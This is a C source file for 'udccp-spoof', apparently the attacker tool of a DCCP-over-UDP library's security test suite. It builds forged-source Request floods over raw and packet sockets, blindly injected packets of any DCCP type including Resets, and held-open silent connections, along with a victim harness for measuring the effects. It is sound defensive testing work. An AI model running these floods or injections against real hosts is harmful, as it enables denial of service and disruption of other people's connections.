/* SPDX-License-Identifier: MIT */
/*
 * udccp-spoof: the attacker and the legitimate client of the attack suite
 * (tests/attack/run.sh, doc/security.md).  Run it only inside the network
 * namespaces the suite makes: it sends packets with forged source
 * addresses.
 *
 *   udccp-spoof flood DST UDPPORT DCCPPORT SERVICE PPS SECONDS
 *       DCCP-UDP Requests (RFC 6773) from random source addresses in
 *       172.16.0.0/12, random UDP and DCCP source ports and random
 *       Sequence Numbers, through a raw IPv4 socket (IP_HDRINCL), paced at
 *       PPS in batches (sendmmsg).  Prints "flood sent N pps R".
 *       UDCCP_SPOOF_IFACE=NAME (flood and inject): send through a packet
 *       socket on that interface instead of a raw IP socket (see
 *       open_sender(); about twice the packets per CPU-second here).
 *   udccp-spoof connect HOST UDPPORT DCCPPORT SERVICE N TIMEOUT_MS [hold]
 *       N handshakes one after another with the udccp runtime, each
 *       aborted once open (Reset, so the server forgets it at once);
 *       "hold" keeps the first one open, and leaves it so (udccp-cat -l
 *       serves one connection and exits when it ends).
 *       Prints "connect n N ok K within_ms T max_ms M".
 *   udccp-spoof silent HOST UDPPORT DCCPPORT SERVICE N WAIT_S LOCALUDP
 *       N handshakes from UDP port LOCALUDP (udccp runtime, keepalive off,
 *       up to 256 at a time), then the client vanishes: its endpoint is
 *       deleted without a Reset, and a plain UDP socket on LOCALUDP takes
 *       its place and answers nothing (a host killed or firewalled).  It
 *       records, per connection, the server's keepalive Syncs and the
 *       Reset that ends it, for up to WAIT_S seconds.  Prints
 *       "silent n N open K reaped R with_sync S max_s T syncs Y" (S: the
 *       reaped ones probed by a Sync first; T: latest Reset, seconds after
 *       the client fell silent).
 *
 *   udccp-spoof victim ADDR SRVUDP CLIUDP
 *       Both ends of one connection in this process (two endpoints bound
 *       to ADDR: a server on UDP SRVUDP, DCCP port 5207, and its client on
 *       UDP CLIUDP), the client sending a 64-byte datagram every
 *       millisecond, the server checking each one.  Prints "victim ports
 *       CLIUDP CLIDCCP SRVUDP 5207" once open; on SIGUSR1 a snapshot of
 *       the counters, exact because both ends are read at one instant
 *       with nothing in flight (see snap()); on SIGTERM it closes the
 *       connection and prints a last one.
 *   udccp-spoof inject DST DSTUDP DSTDCCP SRC SRCUDP SRCDCCP TYPE N PPS [x0]
 *       N spoofed packets of DCCP type TYPE (0..9) from SRC:SRCUDP, DCCP
 *       port SRCDCCP, to DST:DSTUDP, DCCP port DSTDCCP: the right
 *       addresses and ports, random 48-bit Sequence and Acknowledgement
 *       Numbers (X=1; "x0": 24-bit ones, X=0, for Data, Ack, DataAck), a
 *       random Reset Code; paced at PPS.  Prints "inject type T sent N
 *       pps R".
 *
 * SERVICE is a Service Code as udccp-perf and udccp-cat spell it ("PERF").
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include <udccp/udccp.h>

#include "../../io/parse.h"

#define BATCH 64
#define PKT_LEN (20 + 8 + 20) /* IPv4, UDP, DCCP Request (X=1) */

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint64_t rng = 0x243F6A8885A308D3ULL;
static uint64_t xs(void) {
  rng ^= rng << 13;
  rng ^= rng >> 7;
  rng ^= rng << 17;
  return rng;
}

static uint16_t ip_cksum(const uint8_t *p, size_t n) {
  uint32_t s = 0;
  for (size_t i = 0; i + 1 < n; i += 2) {
    s += (uint32_t)(p[i] << 8 | p[i + 1]);
  }
  while (s >> 16) {
    s = (s & 0xFFFF) + (s >> 16);
  }
  return (uint16_t)~s;
}

/* One spoofed Request: RFC 4340 §5.1 generic header with X = 1 and the
 * §5.2 Service Code; the DCCP checksum is zero on DCCP-UDP (RFC 6773
 * §3.3), the UDP checksum zero (optional over IPv4). */
static void build(uint8_t *p, uint32_t dst, uint16_t uport, uint16_t dport,
                  uint32_t service) {
  uint64_t r = xs();
  uint32_t src = htonl(0xAC100000u | (uint32_t)(r & 0x000FFFFF));
  uint16_t usport = (uint16_t)(1024 + ((r >> 20) % 64000));
  uint16_t dsport = (uint16_t)(1024 + ((r >> 36) % 64000));
  uint64_t seq = xs() & 0xFFFFFFFFFFFFULL;
  memset(p, 0, PKT_LEN);
  p[0] = 0x45;
  p[2] = PKT_LEN >> 8;
  p[3] = PKT_LEN & 0xFF;
  p[8] = 64;
  p[9] = IPPROTO_UDP;
  memcpy(p + 12, &src, 4);
  memcpy(p + 16, &dst, 4);
  uint16_t c = ip_cksum(p, 20);
  p[10] = (uint8_t)(c >> 8);
  p[11] = (uint8_t)c;
  uint8_t *u = p + 20;
  u[0] = (uint8_t)(usport >> 8);
  u[1] = (uint8_t)usport;
  u[2] = (uint8_t)(uport >> 8);
  u[3] = (uint8_t)uport;
  u[4] = 0;
  u[5] = 28;
  uint8_t *d = u + 8;
  d[0] = (uint8_t)(dsport >> 8);
  d[1] = (uint8_t)dsport;
  d[2] = (uint8_t)(dport >> 8);
  d[3] = (uint8_t)dport;
  d[4] = 5;                              /* Data Offset: 20 bytes */
  d[8] = (uint8_t)(UDCCP_PKT_REQUEST << 1) | 1; /* Type, X = 1 */
  for (int i = 0; i < 6; i++) {
    d[10 + i] = (uint8_t)(seq >> (8 * (5 - i)));
  }
  d[16] = (uint8_t)(service >> 24);
  d[17] = (uint8_t)(service >> 16);
  d[18] = (uint8_t)(service >> 8);
  d[19] = (uint8_t)service;
}

/* The attacker's socket.  A raw IPv4 socket (IP_HDRINCL) by default; with
 * UDCCP_SPOOF_IFACE=NAME a packet socket on that interface (the IP packet
 * in a link-layer broadcast frame, PACKET_QDISC_BYPASS), which skips the
 * sender's IP output path (route, netfilter, neighbour, qdisc): more
 * packets per CPU-second for the same forged IP packets. */
static int open_sender(struct in_addr dst, struct sockaddr_in *to,
                       struct sockaddr_ll *ll, socklen_t *tolen) {
  const char *ifn = getenv("UDCCP_SPOOF_IFACE");
  int sb = 4 << 20, fd;
  memset(to, 0, sizeof(*to));
  memset(ll, 0, sizeof(*ll));
  if (ifn != NULL && *ifn != '\0') {
    fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    if (fd < 0) {
      perror("udccp-spoof: packet socket (root needed)");
      return -1;
    }
    int one = 1;
    (void)setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
    ll->sll_family = AF_PACKET;
    ll->sll_protocol = htons(ETH_P_IP);
    ll->sll_ifindex = (int)if_nametoindex(ifn);
    ll->sll_halen = 6;
    memset(ll->sll_addr, 0xFF, 6);
    if (ll->sll_ifindex == 0) {
      fprintf(stderr, "udccp-spoof: no interface %s\n", ifn);
      close(fd);
      return -1;
    }
    *tolen = sizeof(*ll);
  } else {
    fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
      perror("udccp-spoof: raw socket (root needed)");
      return -1;
    }
    to->sin_family = AF_INET;
    to->sin_addr = dst;
    *tolen = sizeof(*to);
  }
  (void)setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sb, sizeof(sb));
  return fd;
}

static int flood(int argc, char **argv) {
  if (argc != 8) {
    return 2;
  }
  struct in_addr dst;
  uint32_t service;
  if (inet_pton(AF_INET, argv[2], &dst) != 1 ||
      udccp_service_code_parse(argv[5], &service) != 0) {
    fprintf(stderr, "udccp-spoof: bad address or service\n");
    return 2;
  }
  uint16_t uport = (uint16_t)atoi(argv[3]), dport = (uint16_t)atoi(argv[4]);
  double pps = atof(argv[6]), secs = atof(argv[7]);
  struct sockaddr_in to;
  struct sockaddr_ll ll;
  socklen_t tolen;
  int fd = open_sender(dst, &to, &ll, &tolen);
  if (fd < 0) {
    return 1;
  }
  static uint8_t pkts[BATCH][PKT_LEN];
  struct iovec iov[BATCH];
  struct mmsghdr mm[BATCH];
  memset(mm, 0, sizeof(mm));
  for (int i = 0; i < BATCH; i++) {
    iov[i].iov_base = pkts[i];
    iov[i].iov_len = PKT_LEN;
    mm[i].msg_hdr.msg_iov = &iov[i];
    mm[i].msg_hdr.msg_iovlen = 1;
    mm[i].msg_hdr.msg_name = ll.sll_family ? (void *)&ll : (void *)&to;
    mm[i].msg_hdr.msg_namelen = tolen;
  }
  double t0 = now_s(), t;
  uint64_t sent = 0;
  while ((t = now_s() - t0) < secs) {
    double due = t * pps;
    if ((double)sent >= due) {
      struct timespec ts = {0, 200000};
      nanosleep(&ts, NULL);
      continue;
    }
    int n = BATCH;
    if (due - (double)sent < BATCH) {
      n = (int)(due - (double)sent) + 1;
    }
    for (int i = 0; i < n; i++) {
      build(pkts[i], dst.s_addr, uport, dport, service);
    }
    int r = sendmmsg(fd, mm, (unsigned)n, 0);
    if (r > 0) {
      sent += (uint64_t)r;
    } else if (r < 0 && errno != ENOBUFS && errno != EAGAIN &&
               errno != EINTR) {
      perror("udccp-spoof: sendmmsg");
      return 1;
    }
  }
  t = now_s() - t0;
  printf("flood sent %llu pps %.0f\n", (unsigned long long)sent,
         (double)sent / t);
  return 0;
}

static int legit(int argc, char **argv) {
  if (argc != 8 && !(argc == 9 && strcmp(argv[8], "hold") == 0)) {
    return 2;
  }
  udccp_sock *held = NULL;
  uint32_t service;
  if (udccp_service_code_parse(argv[5], &service) != 0) {
    fprintf(stderr, "udccp-spoof: bad service\n");
    return 2;
  }
  int n = atoi(argv[6]), tmo = atoi(argv[7]), ok = 0;
  udccp_endpoint_config cfg;
  udccp_endpoint_config_default(&cfg);
  cfg.remote_udp_port = (uint16_t)atoi(argv[3]);
  udccp_endpoint *ep = NULL;
  int rv = udccp_endpoint_new_config(&ep, &cfg);
  if (rv != 0) {
    fprintf(stderr, "udccp-spoof: endpoint: %s\n", udccp_io_strerror(rv));
    return 1;
  }
  double worst = 0;
  for (int i = 0; i < n; i++) {
    udccp_sock *s = NULL;
    double t0 = now_s();
    rv = udccp_connect(ep, &s, argv[2], (uint16_t)atoi(argv[4]), service, 0,
                       tmo);
    double dt = (now_s() - t0) * 1e3;
    if (rv == 0) {
      ok++;
      worst = dt > worst ? dt : worst;
      if (argc == 9 && held == NULL) {
        held = s;
      } else {
        udccp_abort(s);
      }
    } else {
      fprintf(stderr, "udccp-spoof: handshake %d: %s after %.0f ms\n", i,
              udccp_io_strerror(rv), dt);
    }
    (void)udccp_endpoint_run(ep, 5);
  }
  /* a held connection is left open: udccp_endpoint_del() sends nothing */
  (void)held;
  udccp_endpoint_del(ep);
  printf("connect n %d ok %d within_ms %d max_ms %.1f\n", n, ok, tmo, worst);
  return 0;
}

/* ------------------------------------------------- silent connections */

#define SILENT_WAVE 256

/* One silent connection, by its local DCCP port. */
typedef struct silent_conn {
  uint8_t open, reset;
  uint32_t syncs;
} silent_conn;

/* Waits until every connection of the wave left REQUEST/RESPOND (or
 * died); returns how many completed. */
static int silent_wave(udccp_endpoint *ep, udccp_sock **w, int n,
                       silent_conn *tab) {
  double t0 = now_s();
  int ok = 0, pending = n;
  while (pending > 0 && now_s() - t0 < 10) {
    (void)udccp_endpoint_run(ep, 5);
    pending = 0;
    for (int i = 0; i < n; i++) {
      if (w[i] == NULL) {
        continue;
      }
      int st = udccp_sock_state(w[i]);
      if (st == UDCCP_STATE_OPEN || st == UDCCP_STATE_PARTOPEN) {
        tab[udccp_sock_get_path(w[i])->local_port].open = 1;
        ok++;
        w[i] = NULL; /* kept: never closed, never sent to again */
      } else if (udccp_sock_error(w[i]) != 0) {
        udccp_abort(w[i]);
        w[i] = NULL;
      } else {
        pending++;
      }
    }
  }
  return ok;
}

static int silent(int argc, char **argv) {
  if (argc != 9) {
    return 2;
  }
  uint32_t service;
  if (udccp_service_code_parse(argv[5], &service) != 0) {
    fprintf(stderr, "udccp-spoof: bad service\n");
    return 2;
  }
  int n = atoi(argv[6]);
  double wait_s = atof(argv[7]);
  uint16_t lport = (uint16_t)atoi(argv[8]), dport = (uint16_t)atoi(argv[4]);
  silent_conn *tab = calloc(65536, sizeof(*tab));
  udccp_settings st;
  udccp_settings_default(&st);
  st.keepalive_idle = 0; /* silence is ours: we never probe */
  udccp_endpoint_config cfg;
  udccp_endpoint_config_default(&cfg);
  cfg.remote_udp_port = (uint16_t)atoi(argv[3]);
  cfg.local_port = lport;
  cfg.settings = &st;
  udccp_endpoint *ep = NULL;
  int rv = tab == NULL ? UDCCP_ERR_NOMEM : udccp_endpoint_new_config(&ep, &cfg);
  if (rv != 0) {
    fprintf(stderr, "udccp-spoof: endpoint: %s\n", udccp_io_strerror(rv));
    free(tab);
    return 1;
  }
  int ok = 0;
  udccp_sock *w[SILENT_WAVE];
  for (int done = 0; done < n;) {
    int k = n - done < SILENT_WAVE ? n - done : SILENT_WAVE;
    for (int i = 0; i < k; i++) {
      w[i] = NULL;
      rv = udccp_connect(ep, &w[i], argv[2], dport, service, 0, 0);
      if (rv != 0) {
        fprintf(stderr, "udccp-spoof: connect: %s\n", udccp_io_strerror(rv));
        w[i] = NULL;
      }
    }
    ok += silent_wave(ep, w, k, tab);
    done += k;
  }
  /* A lost Ack in PARTOPEN is resent within 200 ms (RFC 4340 §8.1.5):
   * a second of service and the server holds every one of them. */
  for (double t0 = now_s(); now_s() - t0 < 1;) {
    (void)udccp_endpoint_run(ep, 10);
  }
  /* Vanish: no Reset, no Close; the UDP port answers nothing from now. */
  udccp_endpoint_del(ep);
  double t_silent = now_s();
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  int one = 1;
  (void)setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
  int rb = 8 << 20;
  (void)setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &rb, sizeof(rb));
  struct sockaddr_in a;
  memset(&a, 0, sizeof(a));
  a.sin_family = AF_INET;
  a.sin_port = htons(lport);
  if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) != 0) {
    perror("udccp-spoof: observer socket");
    free(tab);
    return 1;
  }
  struct timeval tv = {0, 100000};
  (void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  int reaped = 0, with_sync = 0;
  uint64_t syncs = 0;
  double last = 0;
  uint8_t b[2048];
  while (reaped < ok && now_s() - t_silent < wait_s) {
    ssize_t r = recv(fd, b, sizeof(b), 0);
    if (r < 16) {
      continue;
    }
    /* RFC 4340 §5.1: ports, then Type in bits 1..4 of byte 8 */
    uint16_t sp = (uint16_t)(b[0] << 8 | b[1]), dp = (uint16_t)(b[2] << 8 | b[3]);
    int type = (b[8] >> 1) & 0xF;
    if (sp != dport || !tab[dp].open || tab[dp].reset) {
      continue;
    }
    if (type == UDCCP_PKT_SYNC) {
      tab[dp].syncs++;
      syncs++;
    } else if (type == UDCCP_PKT_RESET) {
      tab[dp].reset = 1;
      reaped++;
      with_sync += tab[dp].syncs > 0;
      last = now_s() - t_silent;
    }
  }
  close(fd);
  free(tab);
  printf("silent n %d open %d reaped %d with_sync %d max_s %.1f syncs %llu\n",
         n, ok, reaped, with_sync, last, (unsigned long long)syncs);
  return 0;
}

/* ---------------------------------------------------- blind injection */

/* A spoofed packet of type type, X = 1 (48-bit numbers) or X = 0 (24-bit,
 * Data, Ack and DataAck only, §5.1), random seqno and ackno (RFC 4340
 * §5.1-§5.6 layouts).  Returns the IP packet's length. */
static size_t build_inj(uint8_t *p, uint32_t src, uint32_t dst,
                        uint16_t sudp, uint16_t dudp, uint16_t sdccp,
                        uint16_t ddccp, int type, int x) {
  uint64_t seq = xs() & 0xFFFFFFFFFFFFULL, ack = xs() & 0xFFFFFFFFFFFFULL;
  int has_ack = type != UDCCP_PKT_REQUEST && type != UDCCP_PKT_DATA;
  size_t gen = x ? 16 : 12, sub = has_ack ? (x ? 8 : 4) : 0, extra = 0;
  if (type == UDCCP_PKT_REQUEST || type == UDCCP_PKT_RESPONSE ||
      type == UDCCP_PKT_RESET) {
    extra = 4; /* Service Code, or Reset Code and Data 1..3 */
  }
  size_t hdr = gen + sub + extra;
  size_t pay = (type == UDCCP_PKT_DATA || type == UDCCP_PKT_DATAACK) ? 16 : 0;
  size_t dlen = hdr + pay, len = 20 + 8 + dlen;
  memset(p, 0, len);
  p[0] = 0x45;
  p[2] = (uint8_t)(len >> 8);
  p[3] = (uint8_t)len;
  p[8] = 64;
  p[9] = IPPROTO_UDP;
  memcpy(p + 12, &src, 4);
  memcpy(p + 16, &dst, 4);
  uint16_t c = ip_cksum(p, 20);
  p[10] = (uint8_t)(c >> 8);
  p[11] = (uint8_t)c;
  uint8_t *u = p + 20, *d = p + 28;
  u[0] = (uint8_t)(sudp >> 8);
  u[1] = (uint8_t)sudp;
  u[2] = (uint8_t)(dudp >> 8);
  u[3] = (uint8_t)dudp;
  u[4] = (uint8_t)((8 + dlen) >> 8);
  u[5] = (uint8_t)(8 + dlen);
  d[0] = (uint8_t)(sdccp >> 8);
  d[1] = (uint8_t)sdccp;
  d[2] = (uint8_t)(ddccp >> 8);
  d[3] = (uint8_t)ddccp;
  d[4] = (uint8_t)(hdr / 4);
  d[8] = (uint8_t)(type << 1) | (uint8_t)(x ? 1 : 0);
  if (x) {
    for (int i = 0; i < 6; i++) {
      d[10 + i] = (uint8_t)(seq >> (8 * (5 - i)));
    }
  } else {
    d[9] = (uint8_t)(seq >> 16);
    d[10] = (uint8_t)(seq >> 8);
    d[11] = (uint8_t)seq;
  }
  uint8_t *a = d + gen;
  if (has_ack) {
    if (x) {
      for (int i = 0; i < 6; i++) {
        a[2 + i] = (uint8_t)(ack >> (8 * (5 - i)));
      }
    } else {
      a[1] = (uint8_t)(ack >> 16);
      a[2] = (uint8_t)(ack >> 8);
      a[3] = (uint8_t)ack;
    }
  }
  uint8_t *e = a + sub;
  if (type == UDCCP_PKT_REQUEST || type == UDCCP_PKT_RESPONSE) {
    memcpy(e, "INJ\0", 4); /* the victim's Service Code */
  } else if (type == UDCCP_PKT_RESET) {
    e[0] = (uint8_t)(1 + xs() % 11); /* Reset Codes 1..11 */
  }
  if (pay) {
    memset(d + hdr, 0xA5, pay);
  }
  return len;
}

static int inject(int argc, char **argv) {
  if (argc != 11 && !(argc == 12 && strcmp(argv[11], "x0") == 0)) {
    return 2;
  }
  struct in_addr dst, src;
  if (inet_pton(AF_INET, argv[2], &dst) != 1 ||
      inet_pton(AF_INET, argv[5], &src) != 1) {
    fprintf(stderr, "udccp-spoof: bad address\n");
    return 2;
  }
  uint16_t dudp = (uint16_t)atoi(argv[3]), ddccp = (uint16_t)atoi(argv[4]);
  uint16_t sudp = (uint16_t)atoi(argv[6]), sdccp = (uint16_t)atoi(argv[7]);
  int type = atoi(argv[8]), x = argc == 11;
  uint64_t n = strtoull(argv[9], NULL, 10);
  double pps = atof(argv[10]);
  if (type < 0 || type > 9 || (!x && type != UDCCP_PKT_DATA &&
                               type != UDCCP_PKT_ACK &&
                               type != UDCCP_PKT_DATAACK)) {
    fprintf(stderr, "udccp-spoof: type %d cannot be sent%s\n", type,
            x ? "" : " with X=0");
    return 2;
  }
  struct sockaddr_in to;
  struct sockaddr_ll ll;
  socklen_t tolen;
  int fd = open_sender(dst, &to, &ll, &tolen);
  if (fd < 0) {
    return 1;
  }
  static uint8_t pkts[BATCH][128];
  struct iovec iov[BATCH];
  struct mmsghdr mm[BATCH];
  memset(mm, 0, sizeof(mm));
  for (int i = 0; i < BATCH; i++) {
    iov[i].iov_base = pkts[i];
    mm[i].msg_hdr.msg_iov = &iov[i];
    mm[i].msg_hdr.msg_iovlen = 1;
    mm[i].msg_hdr.msg_name = ll.sll_family ? (void *)&ll : (void *)&to;
    mm[i].msg_hdr.msg_namelen = tolen;
  }
  rng ^= (uint64_t)getpid() << 32 ^ (uint64_t)(now_s() * 1e9);
  double t0 = now_s();
  uint64_t sent = 0;
  while (sent < n) {
    double due = (now_s() - t0) * pps;
    if ((double)sent >= due) {
      struct timespec ts = {0, 200000};
      nanosleep(&ts, NULL);
      continue;
    }
    uint64_t k = n - sent < BATCH ? n - sent : BATCH;
    for (uint64_t i = 0; i < k; i++) {
      iov[i].iov_len = build_inj(pkts[i], src.s_addr, dst.s_addr, sudp, dudp,
                                 sdccp, ddccp, type, x);
    }
    int r = sendmmsg(fd, mm, (unsigned)k, 0);
    if (r > 0) {
      sent += (uint64_t)r;
    } else if (r < 0 && errno != ENOBUFS && errno != EAGAIN &&
               errno != EINTR) {
      perror("udccp-spoof: sendmmsg");
      return 1;
    }
  }
  printf("inject type %d sent %llu pps %.0f\n", type, (unsigned long long)sent,
         (double)sent / (now_s() - t0));
  return 0;
}

static volatile sig_atomic_t g_snap, g_stop;
static void on_usr1(int sig) { (void)sig; g_snap = 1; }
static void on_term(int sig) { (void)sig; g_stop = 1; }

/* The kernel's UDP receive drops in this namespace (both ends are here):
 * InErrors of /proc/net/snmp (RcvbufErrors are counted in it). */
static uint64_t udp_drops(void) {
  FILE *f = fopen("/proc/net/snmp", "r");
  char l1[512], l2[512];
  uint64_t v = 0;
  if (f == NULL) {
    return 0;
  }
  while (fgets(l1, sizeof(l1), f) != NULL) {
    if (strncmp(l1, "Udp:", 4) != 0 || fgets(l2, sizeof(l2), f) == NULL) {
      continue;
    }
    /* Udp: InDatagrams NoPorts InErrors OutDatagrams RcvbufErrors ... */
    unsigned long long a[6] = {0, 0, 0, 0, 0, 0};
    if (sscanf(l2, "Udp: %llu %llu %llu %llu %llu", &a[0], &a[1], &a[2],
               &a[3], &a[4]) == 5) {
      v = a[2];
    }
    break;
  }
  fclose(f);
  return v;
}

typedef struct victim_st {
  udccp_endpoint *se, *ce;
  udccp_sock *ss, *cs;
  uint64_t delivered, bad, next_ctr;
} victim_st;

static void victim_rx(victim_st *v) {
  uint8_t b[2048];
  udccp_ssize r;
  while ((r = udccp_recv(v->ss, b, sizeof(b), 0)) >= 0) {
    uint64_t ctr = 0;
    for (int i = 0; i < 8; i++) {
      ctr = ctr << 8 | b[4 + i];
    }
    /* every datagram must be one the client sent: magic, a counter not
     * seen before, the fill */
    int ok = r == 64 && memcmp(b, "VICT", 4) == 0 && ctr >= v->next_ctr;
    for (int i = 12; ok && i < 64; i++) {
      ok = b[i] == (uint8_t)(ctr + (uint64_t)i);
    }
    if (ok) {
      v->delivered++;
      v->next_ctr = ctr + 1;
    } else {
      v->bad++;
    }
  }
}

/* Both ends' counters at one instant, with nothing in flight: the client
 * is not run, and the server's socket is emptied first (loopback delivery
 * is synchronous: what the client sent is already queued there). */
static void snap(victim_st *v, const char *what) {
  struct pollfd pf = {udccp_endpoint_fd(v->se), POLLIN, 0};
  for (int k = 0; k < 1000; k++) {
    (void)udccp_endpoint_process(v->se);
    victim_rx(v);
    if (poll(&pf, 1, 1) <= 0) {
      break;
    }
  }
  udccp_conn_info si, ci;
  udccp_sock_get_info(v->ss, &si);
  udccp_sock_get_info(v->cs, &ci);
  printf("%s recv %llu seqinv %llu dropped %llu malformed %llu csent %llu "
         "state %d delivered %llu bad %llu kdrops %llu cstate %d syncs %llu\n",
         what, (unsigned long long)si.pkts_recv,
         (unsigned long long)si.pkts_seq_invalid,
         (unsigned long long)si.pkts_dropped,
         (unsigned long long)si.pkts_malformed,
         (unsigned long long)ci.pkts_sent, udccp_sock_state(v->ss),
         (unsigned long long)v->delivered, (unsigned long long)v->bad,
         (unsigned long long)udp_drops(), udccp_sock_state(v->cs),
         (unsigned long long)si.syncs_sent);
  fflush(stdout);
}

static int victim(int argc, char **argv) {
  if (argc != 5) {
    return 2;
  }
  victim_st v;
  memset(&v, 0, sizeof(v));
  udccp_endpoint_config cfg;
  udccp_endpoint_config_default(&cfg);
  cfg.local_host = argv[2];
  cfg.local_port = (uint16_t)atoi(argv[3]);
  int rv = udccp_endpoint_new_config(&v.se, &cfg);
  cfg.local_port = (uint16_t)atoi(argv[4]);
  cfg.remote_udp_port = (uint16_t)atoi(argv[3]);
  if (rv == 0) {
    rv = udccp_endpoint_new_config(&v.ce, &cfg);
  }
  uint32_t code = 0x494E4A00u; /* "INJ" */
  if (rv == 0) {
    rv = udccp_listen(v.se, 5207, &code, 1);
  }
  if (rv == 0) {
    rv = udccp_connect(v.ce, &v.cs, argv[2], 5207, code, 0, 0);
  }
  for (double t0 = now_s(); rv == 0 && v.ss == NULL && now_s() - t0 < 5;) {
    (void)udccp_endpoint_run(v.ce, 1);
    int a = udccp_accept(v.se, &v.ss, 1);
    rv = a == UDCCP_ERR_AGAIN ? 0 : a;
  }
  if (rv != 0 || v.ss == NULL) {
    fprintf(stderr, "udccp-spoof: victim: %s\n",
            udccp_io_strerror(rv ? rv : UDCCP_ERR_TIMEOUT));
    return 1;
  }
  signal(SIGUSR1, on_usr1);
  signal(SIGTERM, on_term);
  signal(SIGINT, on_term);
  printf("victim ports %s %u %s 5207\n", argv[4],
         (unsigned)udccp_sock_get_path(v.cs)->local_port, argv[3]);
  fflush(stdout);
  struct pollfd pf[2] = {{udccp_endpoint_fd(v.se), POLLIN, 0},
                         {udccp_endpoint_fd(v.ce), POLLIN, 0}};
  double next = now_s();
  uint64_t ctr = 0;
  while (!g_stop) {
    if (g_snap) {
      g_snap = 0;
      snap(&v, "snap");
    }
    double t = now_s();
    if (t >= next) {
      uint8_t b[64];
      memcpy(b, "VICT", 4);
      for (int i = 0; i < 8; i++) {
        b[4 + i] = (uint8_t)(ctr >> (8 * (7 - i)));
      }
      for (int i = 12; i < 64; i++) {
        b[i] = (uint8_t)(ctr + (uint64_t)i);
      }
      if (udccp_send(v.cs, b, sizeof(b), 0) == (udccp_ssize)sizeof(b)) {
        ctr++;
      }
      next += 0.001;
      if (next < t - 0.1) {
        next = t; /* no catching up after a stall */
      }
    }
    (void)poll(pf, 2, 1);
    (void)udccp_endpoint_process(v.ce);
    (void)udccp_endpoint_process(v.se);
    victim_rx(&v);
  }
  snap(&v, "final");
  /* the transfer ends as it should: a clean close by the client, both
   * ends run (RFC 4340 §8.3: Close, Reset, TIMEWAIT) */
  rv = udccp_shutdown(v.cs);
  for (double t0 = now_s(); rv == 0 && now_s() - t0 < 3;) {
    (void)poll(pf, 2, 5);
    (void)udccp_endpoint_process(v.ce);
    (void)udccp_endpoint_process(v.se);
    victim_rx(&v);
    int st = udccp_sock_state(v.cs);
    if (st == UDCCP_STATE_TIMEWAIT || st == UDCCP_STATE_CLOSED) {
      rv = udccp_sock_error(v.cs) == UDCCP_ERR_CLOSED ||
                   st == UDCCP_STATE_TIMEWAIT
               ? 1
               : udccp_sock_error(v.cs);
    }
  }
  printf("close %s sent %llu\n",
         rv == 1 ? "ok" : udccp_io_strerror(rv ? rv : UDCCP_ERR_TIMEOUT),
         (unsigned long long)ctr);
  udccp_abort(v.cs);
  udccp_abort(v.ss);
  udccp_endpoint_del(v.ce);
  udccp_endpoint_del(v.se);
  return 0;
}

int main(int argc, char **argv) {
  int rv = 2;
  if (argc > 1 && strcmp(argv[1], "flood") == 0) {
    rv = flood(argc, argv);
  } else if (argc > 1 && strcmp(argv[1], "connect") == 0) {
    rv = legit(argc, argv);
  } else if (argc > 1 && strcmp(argv[1], "silent") == 0) {
    rv = silent(argc, argv);
  } else if (argc > 1 && strcmp(argv[1], "inject") == 0) {
    rv = inject(argc, argv);
  } else if (argc > 1 && strcmp(argv[1], "victim") == 0) {
    rv = victim(argc, argv);
  }
  if (rv == 2) {
    fprintf(stderr,
            "usage: udccp-spoof flood DST UDPPORT DCCPPORT SERVICE PPS SECONDS\n"
            "       udccp-spoof connect HOST UDPPORT DCCPPORT SERVICE N "
            "TIMEOUT_MS [hold]\n"
            "       udccp-spoof silent HOST UDPPORT DCCPPORT SERVICE N WAIT_S "
            "LOCALUDP\n"
            "       udccp-spoof victim ADDR SRVUDP CLIUDP\n"
            "       udccp-spoof inject DST DSTUDP DSTDCCP SRC SRCUDP SRCDCCP "
            "TYPE N PPS [x0]\n");
  }
  return rv;
}
